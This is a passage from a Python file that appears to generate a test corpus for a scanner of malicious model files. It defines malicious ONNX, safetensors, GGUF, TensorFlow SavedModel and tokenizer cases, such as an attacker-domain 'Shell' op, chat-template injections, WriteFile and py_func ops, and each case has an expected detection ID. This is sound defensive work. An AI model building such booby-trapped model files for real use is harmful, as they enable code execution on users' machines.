         {"module": "keras.utils", "name": "get_file"}),
    Case("onnx_custom_domain_in_subgraph.onnx", "onnx", onnx_custom_domain,
         "onnx.domain.unknown", {"domain": "com.attacker.ops", "ops": ["Shell"]}),
    Case("onnx_external_data_escape.onnx", "onnx", onnx_external_escape,
         "onnx.external-data.escape", {}),
    Case("safetensors_overlap.safetensors", "safetensors", _safetensors_corrupt(_overlap),
         "safetensors.tensor.overlap", {"tensors": ["steps", "weight"]}),
    Case("safetensors_out_of_bounds.safetensors", "safetensors",
         _safetensors_corrupt(_out_of_bounds), "safetensors.tensor.bounds",
         {"tensor": "weight"}),
    Case("safetensors_bad_dtype.safetensors", "safetensors", _safetensors_corrupt(_bad_dtype),
         "safetensors.dtype.unknown", {"tensor": "bias"}),
    Case("safetensors_huge_header_length.safetensors", "safetensors",
         _safetensors_corrupt(lambda header: None, length=2**63), "safetensors.header.length",
         {"header_length": 2**63}),
    Case("gguf_template_globals.gguf", "gguf", _gguf(MALICIOUS_TEMPLATE),
         "gguf.template.internals", {"key": "tokenizer.chat_template"}),
    Case("gguf_template_obfuscated.gguf", "gguf", _gguf(OBFUSCATED_TEMPLATE),
         "gguf.template.internals", {"key": "tokenizer.chat_template"}),
    Case("savedmodel_write_file", "savedmodel", _saved_model(_write_file_op), "tf.op.file",
         {"op": "WriteFile", "node": "graph/drop"}),
    Case("savedmodel_fake_traced_save", "savedmodel", _saved_model(_fake_traced_save),
         "tf.op.file", {"op": "SaveV2", "node": "__inference__traced_save_7/SaveV2"}),
    Case("savedmodel_py_func", "savedmodel", _saved_model(_py_func), "tf.op.python",
         {"op": "EagerPyFunc"}),
    Case("savedmodel_keras_lambda", "savedmodel", _saved_model(_keras_metadata_lambda),
         "keras.lambda.bytecode", {}),
    Case("savedmodel_keras_metadata_lambda", "savedmodel", _tf_keras_saved_model(True),
         "keras.lambda.bytecode", {"node_path": "root", "identifier": "_tf_keras_sequential",
                                   "where": "$.config.layers[1].config"}),
    Case("tokenizer_config_globals.json", "tokenizer", _tokenizer(MALICIOUS_TEMPLATE),
         "tokenizer.template.internals", {"key": "chat_template"}),
    Case("tokenizer_config_named_obfuscated.json", "tokenizer",
         _tokenizer(OBFUSCATED_TEMPLATE, named=True), "tokenizer.template.internals",
         {"key": "chat_template.tool_use"}),
)


def write_format_corpus(directory: Path, canary: Path, *, benign: bool = True,
                        malicious: bool = True) -> list[Written]:
    """Write the chosen format cases into ``directory`` (created); same as ``write_corpus``."""
    return write_cases(directory, canary,
                       (FORMAT_BENIGN if benign else ()) + (FORMAT_MALICIOUS if malicious else ()))
